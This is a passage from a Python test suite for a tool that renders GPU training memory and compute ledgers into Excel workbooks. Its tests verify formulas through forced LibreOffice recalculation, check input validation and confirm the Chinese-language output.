    assert led["peak_bytes_per_rank"] > 0 and led["fits"] is True


def test_writer_uses_public_api_only():
    """The writer and the output module reach into no library's internals: no leading-underscore
    attribute but their own (``self._...``), nothing from openpyxl (the reader's library), only
    the public ``xlsxwriter`` and ``xlsxwriter.utility`` modules, and no zipfile (no rewriting of
    the saved XML)."""
    import ast

    render = ROOT / "ledger_report" / "render"
    for path in [*sorted((render / "workbook").glob("*.py")), render / "output.py"]:
        name = path.name
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            where = (name, getattr(node, "lineno", None))
            if (
                isinstance(node, ast.Attribute)
                and node.attr.startswith("_")
                and not node.attr.startswith("__")
            ):
                assert isinstance(node.value, ast.Name) and node.value.id == "self", (
                    *where,
                    node.attr,
                )
            if isinstance(node, ast.Import):
                modules = [a.name for a in node.names]
            elif isinstance(node, ast.ImportFrom):
                modules = [node.module or ""]
                if modules[0].startswith("xlsxwriter"):
                    assert not any(a.name.startswith("_") for a in node.names), where
            else:
                continue
            for m in modules:
                assert m.split(".")[0] not in ("openpyxl", "zipfile"), (*where, m)
                assert not m.startswith("xlsxwriter") or m in (
                    "xlsxwriter",
                    "xlsxwriter.utility",
                ), (*where, m)


def test_control_characters_are_refused():
    """INJ-06: a control character in user text is a clear error, not openpyxl's traceback: the
    reader refuses it (config_from_mapping is checked like a file row), and a Config built past
    the reader is still refused by the workbook writer."""
    with pytest.raises(InputError, match="U\\+0007"):
        config_from_mapping(dict(name="bad\x07name", params_total=10**9))
    led = compute(Config({"name": "bad\x07name", "params_total": 10**9}))
    with pytest.raises(ValueError, match="U\\+0007"):
        render_xlsx([led])


# ------------------------------------------------------------------------------------------
# LibreOffice: a real spreadsheet engine, forced to recalculate everything

# These run wherever the suite runs (never skipped): without LibreOffice they fail and say so;
# deselect them with -m "not slow" on a machine that has none.
SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")


def _recalc(data: bytes) -> bytes:
    if SOFFICE is None:
        pytest.fail(
            "LibreOffice (soffice) is required: scripts/setup.sh installs libreoffice-calc-nogui"
        )
    return recalculate_with_libreoffice(data, soffice=SOFFICE)


_FORMULA_CELL = re.compile(
    r'(<c [^>]*?)( t="(?:str|b)")?>(<f>.*?</f>|<f [^>]*?/>|<f [^>]*?[^/]>.*?</f>)<v>[^<]*</v></c>'
)


def _poison(m: re.Match) -> str:
    t = m.group(2) or ""
    wrong = {' t="b"': "0", ' t="str"': "stale"}.get(t, "-1")
    return f"{m.group(1)}{t}>{m.group(3)}<v>{wrong}</v></c>"


def _poisoned(data: bytes) -> bytes:
    """The workbook with every formula's cached value wrong (-1, "stale", FALSE; the type kept):
    what LibreOffice returns after the recalculation is then its own result, never an echo."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = src.read(info)
            if info.filename.startswith("xl/worksheets/sheet"):
                text, n = _FORMULA_CELL.subn(_poison, body.decode())
                assert n == len(re.findall(r"<f[ >]", text)), (
                    info.filename
                )  # every formula cell poisoned
                body = text.encode()
            dst.writestr(info, body)
    return out.getvalue()


@pytest.fixture(scope="module")
def recalculated(built) -> bytes:
    return _recalc(_poisoned(built))


def _formula_cells(data: bytes):
    """{(sheet, coordinate): cached value} of every formula cell of a workbook."""
    formulas = _load(data)
    values = _load(data, data_only=True)
    out = {}
    for ws in formulas.worksheets:
        vs = values[ws.title]
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    out[(ws.title, c.coordinate)] = vs[c.coordinate].value
    return out


@pytest.mark.slow
def test_libreoffice_recalculation_equals_the_engine(recalculated, built, ledgers):
    """(a) After a forced full recalculation in LibreOffice 7.4, every Ledgers figure equals the
    engine's value (rel 1e-9, blanks None), and every other formula cell (Summary, the printable
    ledgers) equals the value the workbook carried."""
    wb = _load(recalculated, data_only=True)
    assert _ledger_mismatches(wb[LEDGERS], ledgers) == []
    cached = _formula_cells(built)
    bad = []
    for (sheet, coord), v in cached.items():
        got = wb[sheet][coord].value
        if not _same(v, got):
            bad.append((sheet, coord, v, got))
    assert bad == []


@pytest.mark.slow
def test_chinese_workbook_recalculates_to_what_it_carried(ledgers):
    """The Chinese workbook's own formulas (the _zh sentences, choice values in Chinese words)
    recalculate in LibreOffice to the values it carried, with no error value."""
    data = render_xlsx(ledgers, lang="zh")
    wb = _load(_recalc(_poisoned(data)), data_only=True)
    cached = _formula_cells(data)
    bad = [
        (sheet, coord, v, wb[sheet][coord].value)
        for (sheet, coord), v in cached.items()
        if not _same(v, wb[sheet][coord].value)
    ]
    assert bad == [] and len(cached) > 1000
    from ledger_report.render.view import word

    assert {word(l["peak_phase"], "zh") for l in ledgers} <= set(
        cached.values()
    )  # 损失, 反向（开始）...


@pytest.mark.slow
def test_libreoffice_reopens_without_errors(recalculated):
    """(g) No error value anywhere after LibreOffice's recalculation (#VALUE!, #NAME?, Err:…)."""
    wb = _load(recalculated, data_only=True)
    errors = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "e" or (isinstance(c.value, str) and c.value.startswith("Err:")):
                    errors.append((ws.title, c.coordinate, c.value))
    assert errors == []
    # hostile text is still text after LibreOffice saved it
    ws = _load(recalculated)[INPUTS]
    names = {ws[f"A{r}"].value for r in range(2, 2 + len(CONFIGS))}
    assert set(HOSTILE) <= names


@pytest.mark.slow
def test_edited_inputs_recalculate_to_the_engine(built, ledgers):
    """(b) Edit dp, a dtype and mfu of one row with openpyxl, recalculate in LibreOffice: that row's
    figures equal the engine on the edited configuration, the other rows are unchanged."""
    i = next(k for k, c in enumerate(CONFIGS) if c["name"] == "moe-pp4-megatron-full")
    changes = dict(dp=16, weight_dtype="fp16", m_dtype="bf16", mfu=0.55)
    wb = _load(built)
    ws = wb[INPUTS]
    col = {name: j + 1 for j, name in enumerate(COLUMN_NAMES)}
    for key, v in changes.items():
        ws.cell(2 + i, col[key]).value = v
    buf = io.BytesIO()
    wb.save(buf)
    out = _load(_recalc(buf.getvalue()), data_only=True)
    edited = compute(config_from_mapping(dict(CONFIGS[i], **changes)))
    assert edited["peak_bytes_per_rank"] != ledgers[i]["peak_bytes_per_rank"]
    expect = list(ledgers)
    expect[i] = edited
    assert _ledger_mismatches(out[LEDGERS], expect) == []
    summ = out[SUMMARY]
    assert _same(
        _gb(edited["peak_bytes_per_rank"]),
        summ.cell(2 + i, _summary_col(summ, "peak_bytes_per_rank")).value,
    )
    assert _same(
        edited["days_on_config"], summ.cell(2 + i, _summary_col(summ, "days_on_config")).value
    )


@pytest.mark.slow
def test_chosen_ledger_sheet_follows_the_dropdown():
    """Above 50 configurations the Ledger sheet shows the configuration named in B3: choose another
    name, recalculate, and its figures are that configuration's."""
    configs = [
        dict(name=f"c{i}", params_total=10**9 * (1 + i), dp=1 + i % 4, tokens=10**11, days=5)
        for i in range(51)
    ]
    configs[7]["name"] = "pick*me?"  # wildcards in MATCH are escaped
    leds = _ledgers(configs)
    wb = _load(render_xlsx(leds))
    ws = wb["Ledger"]
    ws[CHOSEN_NAME].value = "pick*me?"
    buf = io.BytesIO()
    wb.save(buf)
    out = _load(_recalc(buf.getvalue()), data_only=True)["Ledger"]
    assert out[CHOSEN_ROW].value == 8
    assert out["A2"].value == "pick*me?"
    found = {c.value for row in out.iter_rows() for c in row if isinstance(c.value, (int, float))}
    assert any(math.isclose(x, leds[7]["params_total"]) for x in found)


@pytest.mark.slow
def test_count_validation_accepts_text_and_checks_numbers():
    """The template's rule for a count column, evaluated by LibreOffice on sample cells: text that
    the reader parses (35B, 8.19e9, 8,190,735,360) passes, as does a number in range; 0 and -5
    (below params_total's minimum of 1) do not.  (Excel used to refuse 35B outright: "decimal".)"""
    ws = _load(template_xlsx())[INPUTS]
    letter = openpyxl.utils.get_column_letter(COLUMN_NAMES.index("params_total") + 1)
    [dv] = [d for d in ws.data_validations.dataValidation if str(d.sqref).startswith(f"{letter}2:")]
    samples = {
        "35B": True,
        "8.19e9": True,
        "8,190,735,360": True,
        7e9: True,
        1: True,
        0: False,
        -5: False,
    }
    book = openpyxl.Workbook()
    sheet = book.active
    for r, sample in enumerate(samples, start=2):
        sheet[f"{letter}{r}"] = sample
        sheet[f"{letter}{r}"].data_type = "s" if isinstance(sample, str) else "n"
        sheet[f"A{r}"] = "=" + dv.formula1.replace(f"{letter}2", f"{letter}{r}")
    buf = io.BytesIO()
    book.save(buf)
    out = _load(_recalc(buf.getvalue()), data_only=True).active
    assert {sample: out[f"A{r}"].value for r, sample in enumerate(samples, start=2)} == samples


def _random_configs(seed: int, n: int) -> list[dict]:
    """n varied rows (valid divisibility), deterministic: a sweep over the switches the formulas
    branch on."""
    import random

    rng = random.Random(seed)
    out = []
    for i in range(n):
        tp = rng.choice([1, 2, 4, 8])
        dp = rng.choice([1, 2, 3, 4, 6, 8, 16, 64, 128])
        cp = rng.choice([1, 1, 2])
        c: dict = {"name": f"r{i}", "dp": dp, "cp": cp}
        if rng.random() < 0.75:
            heads = rng.choice([16, 32, 64, 96])
            if heads % tp:
                tp = 1
            kv = rng.choice(
                [k for k in (1, 2, 4, 8, heads) if heads % k == 0 and k % tp == 0] or [heads]
            )
            hidden = heads * rng.choice([64, 96, 128])
            c.update(
                layers=rng.choice([12, 30, 32, 61, 94]),
                hidden=hidden,
                heads=heads,
                kv_heads=kv,
                ffn_hidden=int(hidden * rng.choice([2.6875, 3.5, 4])),
                vocab=rng.choice([32000, 50257, 151936]),
                seq_len=rng.choice([2048, 4096, 32768]),
            )
            c["pp"] = min(rng.choice([1, 1, 2, 3, 4, 8]), c["layers"])
            if rng.random() < 0.4:
                e = rng.choice([8, 64, 256])
                ep = rng.choice([k for k in (1, 2, 4, 8) if (dp * cp * tp) % k == 0 and e % k == 0])
                c.update(
                    experts=e,
                    topk=min(e, rng.choice([1, 2, 8])),
                    moe_ffn_hidden=rng.choice([768, 1408]),
                    shared_expert_ffn=rng.choice([0, 2048]),
                    moe_every=rng.choice([1, 2]),
                    ep=ep,
                )
            for k in ("glu", "tied_embeddings", "qk_norm", "flash_attention"):
                if rng.random() < 0.3:
                    c[k] = rng.random() < 0.5
            if rng.random() < 0.3 and c["seq_len"] % (tp * cp) == 0:
                c["sequence_parallel"] = True
            if rng.random() < 0.2:
                c["norm"] = "layernorm"
            if rng.random() < 0.2:
                c["full_attention_every"] = rng.choice([2, 4])
        else:
            c["params_total"] = rng.choice([7 * 10**9, 70 * 10**9, 123456789012, 1_500_000_000_000])
            c["pp"] = rng.choice([1, 2, 4])
            ep = rng.choice([k for k in (2, 4, 8) if (dp * cp * tp) % k == 0] or [1])
            if ep > 1 and ep != tp and rng.random() < 0.5:
                c.update(
                    ep=ep, params_per_rank=int(c["params_total"] / rng.choice([3, 7.5, 11]) / tp)
                )
        c["tp"] = tp
        fw = rng.choice(["generic", "megatron", "deepspeed"])
        c["framework"] = fw
        c["zero"] = rng.choice([0, 1, 3] if fw == "megatron" else [0, 1, 2, 3])
        for key, choices in (
            ("weight_dtype", ["fp32", "bf16", "fp16", "fp8"]),
            ("grad_dtype", ["fp32", "bf16"]),
            ("main_grad_dtype", ["none", "fp32"]),
            ("m_dtype", ["bf16", "fp8", "int8"]),
            ("optimizer", ["adamw", "sgd", "momentum", "lion", "adafactor", "adam8bit"]),
            ("recompute", ["none", "selective", "full"]),
            ("logits_dtype", ["bf16"]),
            ("weights_at", ["host"]),
            ("master_at", ["host", "nvme"]),
            ("optimizer_at", ["host"]),
        ):
            if rng.random() < 0.25:
                c[key] = rng.choice(choices)
        mb = rng.choice([1, 2, 4])
        c["micro_batch"] = mb
        if rng.random() < 0.8:
            c["global_batch"] = mb * dp * rng.choice([1, 8, 64])
        c["gpu"] = rng.choice(["H100-SXM", "A100-40GB", "B200", "MI300X", "GB200"])
        if rng.random() < 0.2:
            c["hbm_gb"] = rng.choice([24, 40.5])
        c["mfu"] = round(rng.uniform(0.1, 0.6), 3)
        if rng.random() < 0.8:
            c["tokens"] = rng.choice([10**11, 15 * 10**12, 123456789012345])
            c["days"] = rng.choice([7, 30, 90.5])
            c["reserve_days"] = rng.choice([0, 1, 2.5])
            c["price_per_gpu_hour"] = rng.choice([1, 3.99])
        if rng.random() < 0.2:
            c["measured_peak_gb"] = rng.choice([45.3, 79.9])
        out.append(c)
    return out


@pytest.mark.slow
def test_random_sweep_recalculates_to_the_engine():
    """400 varied configurations (fixed seed) in one workbook, every cached value poisoned,
    LibreOffice's recalculation equals the engine in every Ledgers cell; no error anywhere."""
    # Config, not config_from_mapping: 33 of these rows have an ep that does not divide dp·cp
    # (etp defaults to tp, and the generator checks dp·cp·tp), a layout the reader refuses; they
    # are kept, being the rows this test was checked on, for the workbook-against-engine
    # comparison, which holds for them too.
    leds = [
        compute(Config(c)) for c in _random_configs(9, 400)
    ]  # with the generator at 9 there are 17 values where plain ceil() differs
    out = _load(_recalc(_poisoned(render_xlsx(leds))), data_only=True)
    assert _ledger_mismatches(out[LEDGERS], leds) == []
    errors = [
        (ws.title, c.coordinate)
        for ws in out.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "e"
    ]
    assert errors == []


@pytest.mark.slow
def test_measured_runs_recalculate_to_the_engine():
    """The published measured runs (tests/data/measured_runs.csv: DeepSpeed ZeRO-3 with its gathered
    weights kept and its own bucket, torchtitan with the loss left eager, Megatron's uneven
    pipelines) in one workbook, every cached value poisoned: LibreOffice's recalculation equals the
    engine in every Ledgers cell."""
    import csv

    from support.measured import DATA, input_row

    with open(DATA, newline="", encoding="utf-8") as fh:
        rows = [input_row(rec) for rec in csv.DictReader(fh)]
    leds = [compute(config_from_mapping(r)) for r in rows]
    assert any(led["mem_weights_kept_bytes"] for led in leds) and any(
        led["loss_compiled"] is False and led["compile"] for led in leds
    )
    out = _load(_recalc(_poisoned(render_xlsx(leds))), data_only=True)
    assert _ledger_mismatches(out[LEDGERS], leds) == []


@pytest.mark.slow
def test_example_rows_in_libreoffice_equal_calc_json():
    """For every row of inputs/examples.csv, LibreOffice's forced recalculation
    of the built workbook equals what ``calc --json`` prints (the engine's document), rel 1e-9."""
    from ledger_report.inputs import read_configs

    leds = [compute(c) for c in read_configs(ROOT / "inputs" / "examples.csv")]
    out = _load(_recalc(_poisoned(render_xlsx(leds))), data_only=True)
    assert _ledger_mismatches(out[LEDGERS], leds) == []
    summ = out[SUMMARY]
    for i, led in enumerate(leds):
        doc = config_document(led)
        comp = doc["compute"]
        row = 2 + i

        def got(key):
            return summ.cell(row, 1 if key == "name" else _summary_col(summ, key)).value

        assert got("name") == doc["name"]
        assert _same(_gb(doc["state_bytes_per_rank"]), got("state_bytes_per_rank"))
        assert _same(_gb(doc["peak_bytes_per_rank"]), got("peak_bytes_per_rank"))
        assert _same(_gb(doc["hbm_bytes"]), got("hbm_bytes"))
        assert _same(WORD[doc["fits"]], got("fits"))
        assert _same(_gb(doc["state_bytes_logical_total"]), got("state_bytes_logical_total"))
        assert _same(comp["min_gpus_compute"], got("min_gpus_compute"))
        assert _same(comp["min_gpus_memory"], got("min_gpus_memory"))
        assert _same(comp["binding_gate"], got("binding_gate"))
        assert _same(comp["days"], got("days_on_config"))
        assert _same(comp["gpu_hours"], got("gpu_hours"))
        assert _same(comp["cost"], got("cost"))
        assert _same(doc["verdicts"]["memory"], got("verdict_memory"))
        assert _same(doc["verdicts"]["deadline"], got("verdict_deadline"))
        ledger_sheet = out.worksheets[3 + i]
        shown = {
            c.value
            for r in ledger_sheet.iter_rows()
            for c in r
            if isinstance(c.value, (int, float))
        }
        for line in doc["states"]:
            assert any(_same(line["bytes_per_rank"] / 1e9, x) for x in shown), (
                led.name,
                line["state"],
                line["part"],
            )


# ------------------------------------------------------------------------------------------
# The report sheets: the spec walked, every figure a formula over its Ledgers row

from dataclasses import replace as _replace  # noqa: E402

from ledger_report.model.expr import Ref  # noqa: E402
from ledger_report.report import SPEC, Figure, Model, Table  # noqa: E402


def _sheet_of(wb, name: str):
    """The print sheet of a configuration (sheets 4.. in configuration order)."""
    i = next(k for k, c in enumerate(CONFIGS) if c["name"] == name)
    return wb.worksheets[3 + i]


def _rows_labelled(ws, text: str) -> list[int]:
    return [c.row for row in ws.iter_rows(max_col=1) for c in row if c.value == text]


def _labelled(ws, text: str) -> list:
    """The cells that hold the label ``text`` (anywhere on the sheet)."""
    return [c for row in ws.iter_rows() for c in row if c.value == text and c.data_type == "s"]


def hidden_rows(ws) -> set[int]:
    return {r for r, d in ws.row_dimensions.items() if d.hidden}


def _cf_rules(ws) -> list[tuple[str, list[str]]]:
    """(range, formulas) of every conditional format of a sheet."""
    return [
        (str(cf.sqref), list(rule.formula or ()))
        for cf in ws.conditional_formatting
        for rule in cf.rules
    ]


def _ledger_ref(key: str, row: int) -> str:
    return f"{LEDGERS}!${QUANTITY_LETTERS[key]}${row}"


@pytest.mark.slow
def test_summary_is_the_spec_summary_verdicts_and_check(built, ledgers):
    """The Summary's columns are the spec's summary figures, then its verdicts, then the row's
    check, each a formula over the same row of Ledgers; rows are coloured from the model's flag
    (verdicts_bad) and the check cell from check_ok, both read from Ledgers, not re-derived."""
    ws = _load(built)[SUMMARY]
    keys = (
        [f.key for f in SPEC.summary]
        + [f.key for f in SPEC.section("verdicts").figures]
        + ["check_message"]
    )
    assert [k for _h, k in summary_columns()] == keys
    headers = [c.value for c in ws[1]][: 1 + len(keys)]
    assert headers[1:] == [HEADER[k] for k in keys]
    assert "peak per rank on the device (GB)" in headers and "memory verdict" in headers
    for j, key in enumerate(keys, start=2):
        for i in (0, len(ledgers) - 1):
            f = ws.cell(2 + i, j).value
            assert f"{LEDGERS}!{QUANTITY_LETTERS[key]}{LEDGER_FIRST_ROW + i}" in f, (key, f)
    rules = _cf_rules(ws)
    flag = f"{LEDGERS}!${QUANTITY_LETTERS['verdicts_bad']}{LEDGER_FIRST_ROW}=TRUE"
    assert any(flag in " ".join(fs) and rng.startswith("A2:") for rng, fs in rules), rules
    check_col = openpyxl.utils.get_column_letter(2 + keys.index("check_message"))
    ok = f"{LEDGERS}!${QUANTITY_LETTERS['check_ok']}{LEDGER_FIRST_ROW}=FALSE"
    assert any(
        ok in " ".join(fs) and rng == f"{check_col}2:{check_col}{1 + len(ledgers)}"
        for rng, fs in rules
    ), rules
    # the Ledgers check column is coloured the same way
    led = _load(built)[LEDGERS]
    c = QUANTITY_LETTERS["check_message"]
    assert any(
        rng == f"{c}3:{c}{2 + len(ledgers)}" and f"${QUANTITY_LETTERS['check_ok']}3=FALSE" in fs[0]
        for rng, fs in _cf_rules(led)
    )


def test_a_rule_the_row_breaks_is_in_its_check_cells():
    """A row that breaks a rule (built past the reader) names it in its check cells, cached."""
    cfg = dict(
        CONFIGS[1], dp=6
    )  # ep = 8 does not divide dp·cp·tp/etp = 12; 1024 is no multiple of 6
    led = compute(Config(cfg))
    assert (
        "ep: expected" in led["check_message"] and "global_batch: expected" in led["check_message"]
    )
    data = _load(render_xlsx([led]), data_only=True)
    summ = data[SUMMARY]
    assert summ.cell(2, _summary_col(summ, "check_message")).value == led["check_message"]
    page = data.worksheets[3]
    assert any(c.value == led["check_message"] for row in page.iter_rows(max_row=5) for c in row)


@pytest.mark.slow
def test_print_sheet_walks_the_spec(built, ledgers):
    """A configuration's page shows every section of the spec that applies to it, each figure a
    formula over its own Ledgers row next to the registry's label; the sources are the
    registry's; the assumptions are the model's sentences (live), the ones that do not apply
    hidden rows."""
    wb = _load(built)
    for name in ("dense-8b-zero1", "moe-pp4-megatron-full", "params-only-offload-adam8bit"):
        ws = _sheet_of(wb, name)
        i = next(k for k, c in enumerate(CONFIGS) if c["name"] == name)
        led, row = ledgers[i], LEDGER_FIRST_ROW + i
        text = {
            c.value
            for r in ws.iter_rows()
            for c in r
            if isinstance(c.value, str) and c.data_type == "s"
        }
        formulas = " ".join(c.value for r in ws.iter_rows() for c in r if c.data_type == "f")
        for sec in SPEC.sections:
            shown = isinstance(sec, Table) or not sec.show or led[sec.show]
            assert (sec.en in text) == bool(shown), (name, sec.key)
            if not shown or isinstance(sec, Table):
                continue
            for f in sec.figures:
                if not f.pages or (f.show and not led[f.show]):
                    continue
                assert _ledger_ref(f.shown, row) in formulas, (name, f.shown)
        assert REGISTRY["activation_bytes_per_rank"].source in text  # the uncounted table's sources
        # wrapped text (labels, sources, breakdowns, sentences) has rows tall enough for it
        cached = _load(built, data_only=True)[ws.title]
        checked = 0
        for m in ws.merged_cells.ranges:
            c = ws.cell(m.min_row, m.min_col)
            text = cached.cell(m.min_row, m.min_col).value
            if (
                not isinstance(text, str)
                or not c.alignment.wrap_text
                or m.min_row in hidden_rows(ws)
            ):
                continue
            size = c.font.sz or 11
            lines = wbk.cells._lines(
                text, (m.max_col - m.min_col + 1) * wbk.layout._U_CHARS * 11 / size
            )
            assert (ws.row_dimensions[m.min_row].height or 15) >= lines * 15 * size / 11 - 1, (
                name,
                c.coordinate,
                text,
            )  # heights are whole pixels
            checked += lines > 1
        assert checked >= 5, name
        assert "as built" not in " ".join(text) and "basis" not in " ".join(text)
        for k in SPEC.assumptions:
            assert _ledger_ref(k, row) in formulas and _ledger_ref(f"{k}_shown", row) in formulas
        hidden = {r for r, d in ws.row_dimensions.items() if d.hidden}
        for k in SPEC.assumptions:
            [r] = [
                c.row
                for rw in ws.iter_rows(max_col=1)
                for c in rw
                if c.data_type == "f" and _ledger_ref(f"{k}_shown", row) in c.value
            ]
            assert (r in hidden) == (not led[f"{k}_shown"]), (name, k)


@pytest.mark.slow
def test_state_lines_a_configuration_lacks_are_hidden_rows(built, ledgers):
    """On a dense model's page the expert lines are hidden rows (and say "—"); on a MoE model's
    page they are shown; every line's cells test the line's ``shown`` quantity."""
    wb = _load(built)
    cached = _load(built, data_only=True)
    for name, expert_shown in (("dense-8b-zero1", False), ("moe-pp4-megatron-full", True)):
        ws = _sheet_of(wb, name)
        vs = cached[ws.title]
        i = next(k for k, c in enumerate(CONFIGS) if c["name"] == name)
        [r] = _rows_labelled(ws, "compute weights (expert)")
        assert bool(ws.row_dimensions[r].hidden) == (not expert_shown), name
        assert _ledger_ref("weights_expert_shown", LEDGER_FIRST_ROW + i) in " ".join(
            str(c.value) for c in ws[r] if c.data_type == "f"
        )
        values = [c.value for c in vs[r] if c.value is not None][1:]
        if expert_shown:
            assert "—" not in values
        else:
            assert values and set(values) <= {"—"}, values
        [d] = _rows_labelled(ws, "compute weights (dense)")
        assert not ws.row_dimensions[d].hidden
    # no hidden rows on the one chosen sheet (rows cannot follow the choice): "—" instead
    configs = [dict(name=f"c{i}", params_total=10**9 * (1 + i), dp=2) for i in range(MAX + 1)]
    ws = _load(render_xlsx(_ledgers(configs)))["Ledger"]
    assert not any(d.hidden for d in ws.row_dimensions.values())
    assert _rows_labelled(ws, "compute weights (expert)")


MAX = wbk.MAX_PRINT_SHEETS


@pytest.mark.slow
def test_a_new_figure_in_the_spec_reaches_the_sheets():
    """A quantity added to the model and a figure added to the spec (compute section and the
    summary) appear in Ledgers, on the print sheet and in the Summary as live formulas, read
    from the ledgers' own model, not a module global."""
    from ledger_report.model.definitions import build
    from ledger_report.model.registry import COUNT as U_COUNT
    from ledger_report.model.tables import tables

    reg = build()
    reg.define(
        "some_new_key",
        Ref("gpus") * 2,
        U_COUNT,
        "twice the GPUs",
        "两倍 GPU",
        "a figure for the test",
    )
    spec = with_figure(SPEC, "compute", Figure("some_new_key"))
    spec = _replace(spec, summary=spec.summary + (Figure("some_new_key"),))
    model = Model(reg, spec, tables())
    led = compute(config_from_mapping(CONFIGS[0]), model)
    assert led["some_new_key"] == 2 * led["gpus"]
    for lang, label in (("en", "twice the GPUs"), ("zh", "两倍 GPU")):
        data = render_xlsx([led], lang=lang)
        wb, vals = _load(data), _load(data, data_only=True)
        letter = wbk.layout._quantity_letters(reg)["some_new_key"]
        led_ws = wb[LEDGERS]
        assert [c.value for c in led_ws[1]][-1] == "some_new_key"
        assert (
            led_ws[f"{letter}3"].data_type == "f"
            and vals[LEDGERS][f"{letter}3"].value == led["gpus"] * 2
        )
        page, page_vals = wb.worksheets[3], vals.worksheets[3]
        [at] = _labelled(page, label)
        cells = [c for c in page[at.row] if c.data_type == "f" and c.column > at.column]
        assert cells and cells[0].value == f"={LEDGERS}!${letter}$3"
        assert page_vals[cells[0].coordinate].value == led["gpus"] * 2
        summ = wb[SUMMARY]
        j = next(c.column for c in summ[1] if c.value == label)
        assert summ.cell(2, j).value == f"={LEDGERS}!{letter}3"


@pytest.mark.slow
def test_chinese_workbook_is_chinese_and_a_valid_input(tmp_path, ledgers):
    """--lang zh: labels, section titles, headers and Help from the registry's and the columns'
    Chinese texts; the Inputs column names stay, so the workbook reads back (and calc runs on it)."""
    from click.testing import CliRunner

    from ledger_report.cli import main
    from ledger_report.inputs import read_configs

    data = render_xlsx(ledgers, lang="zh")
    path = tmp_path / "zh.xlsx"
    path.write_bytes(data)
    wb = _load(data)
    assert [c.value for c in wb[INPUTS][1]] == list(COLUMN_NAMES)
    summ = [c.value for c in wb[SUMMARY][1]]
    assert (
        summ[0] == "名称"
        and f"{REGISTRY['peak_bytes_per_rank'].zh} (GB)" in summ
        and REGISTRY["verdict_memory"].zh in summ
    )
    page = _sheet_of(wb, "dense-8b-zero1")
    text = {c.value for r in page.iter_rows() for c in r if isinstance(c.value, str)}
    for sec in SPEC.sections:
        if isinstance(sec, Table) or not sec.show:
            assert sec.zh in text, sec.key
    assert "每卡显存账本与算力下界" in text and "假设" in text
    assert _ledger_ref("note_units_zh", LEDGER_FIRST_ROW) in " ".join(
        c.value for r in page.iter_rows() for c in r if c.data_type == "f"
    )
    vals = _load(data, data_only=True)
    verdicts = [
        vals[SUMMARY].cell(2 + i, 1 + 1 + summ[1:].index(REGISTRY["verdict_memory"].zh)).value
        for i in range(len(ledgers))
    ]
    assert verdicts == [l["verdict_memory_zh"] for l in ledgers]
    help_ws = wb["Help"]
    help_text = " ".join(str(c.value) for r in help_ws.iter_rows() for c in r if c.value)
    assert help_ws["A1"].value == "说明" and all(col.help_zh in help_text for col in COLUMNS)
    assert wb[LEDGERS]["B2"].value.startswith(REGISTRY[REGISTRY.keys()[0]].zh)
    back = read_configs(path)
    assert [c.values for c in back] == [l.config.values for l in ledgers]
    r = CliRunner().invoke(main, ["calc", str(path), "--json"], catch_exceptions=False)
    assert r.exit_code == 0 and json.loads(r.output)["configs"][0]["name"] == ledgers[0].name


def _value_beside(ws, cached, label: str):
    """The cached value of the first cell right of the cell labelled ``label``."""
    [cell] = _labelled(ws, label)
    return next(
        cached.cell(cell.row, c).value
        for c in range(cell.column + 1, ws.max_column + 1)
        if cached.cell(cell.row, c).value is not None
    )


@pytest.mark.parametrize("lang", ["en", "zh"])
@pytest.mark.slow
def test_print_sheet_says_choices_and_breakdowns_as_the_handout_does(ledgers, lang):
    """A choice figure (the peak's phase, the reported stage, the MFU's source) reads in the
    sheet's language, with the handout's words; a breakdown (step time by term, which groups cross
    nodes) is its sentence, not its first quantity again."""
    from ledger_report.render.view import word

    data = render_xlsx(ledgers, lang=lang)
    wb, cached = _load(data), _load(data, data_only=True)
    name = "moe-pp4-megatron-full"
    led = ledgers[next(k for k, c in enumerate(CONFIGS) if c["name"] == name)]
    ws = _sheet_of(wb, name)
    vals = cached[ws.title]
    suffix = "" if lang == "en" else "_zh"
    label = (lambda k: REGISTRY[k].en) if lang == "en" else (lambda k: REGISTRY[k].zh)
    for key in ("peak_phase", "reported_stage", "mfu_source", "binding_gate"):
        assert _value_beside(ws, vals, label(key)) == word(led[key], lang), key
    if (
        lang == "zh"
    ):  # the handout's Chinese words, no English value left (损失, 唯一段, 预测, 算力门 ...)
        assert not re.search(
            "[a-z]",
            "".join(
                word(led[k], "zh")
                for k in ("peak_phase", "reported_stage", "mfu_source", "binding_gate")
            ),
        )
    terms = _value_beside(ws, vals, label("step_time_terms_bound"))
    assert (
        terms == led["step_time_terms_bound" + suffix]
        and terms.startswith(led["step_time_terms" + suffix])
        and terms.count(" s") >= 5
    )  # compute, tp, pp, bubble, dp ..., then latency and bandwidth (hand-checked: pp 4, tp 2)
    assert _value_beside(ws, vals, label("placement_summary")) == led["placement_summary" + suffix]


@pytest.mark.slow
def test_no_label_mentions_internal_documents(built, ledgers):
    """Labels, sources, help and page headers are in the project's own words (the lookup
    sheets hold the tables' data as the model has it)."""
    books = {"en": built, "zh": render_xlsx(ledgers, lang="zh"), "template": template_xlsx()}
    user = {str(v) for c in CONFIGS for v in c.values()}
    for what, data in books.items():
        wb = _load(data)
        for ws in wb.worksheets:
            if ws.title in LOOKUP_SHEETS:
                continue
            texts = [ws.oddHeader.center.text or "", ws.oddFooter.left.text or ""]
            texts += [
                c.value
                for r in ws.iter_rows()
                for c in r
                if isinstance(c.value, str) and c.data_type == "s" and c.value not in user
            ]
            for t in texts:
                assert not OUTSIDE.search(t), (what, ws.title, t)


@pytest.mark.slow
def test_help_rows_are_tall_enough(built):
    """No overprint on Help: a wrapped cell longer than its column gets a row tall enough."""
    ws = _load(built)["Help"]
    widths = {k: d.width for k, d in ws.column_dimensions.items()}
    for row in ws.iter_rows(min_row=3):
        for c in row:
            if isinstance(c.value, str) and c.coordinate not in ws.merged_cells:
                need = wbk.cells._lines(c.value, widths.get(c.column_letter, 8.43))
                if need > 1:
                    assert (ws.row_dimensions[c.row].height or 15) >= 15 * need, (
                        c.coordinate,
                        c.value,
                    )
    [r] = [
        c.row for c in ws["E"] if c.value and "fp32 (none when weights are fp32)" in str(c.value)
    ] or [None]
    if r is not None:
        assert ws.row_dimensions[r].height and ws.row_dimensions[r].height > 15


@pytest.mark.slow
def test_budget_sheet_is_the_budget_section_side_by_side(built, ledgers):
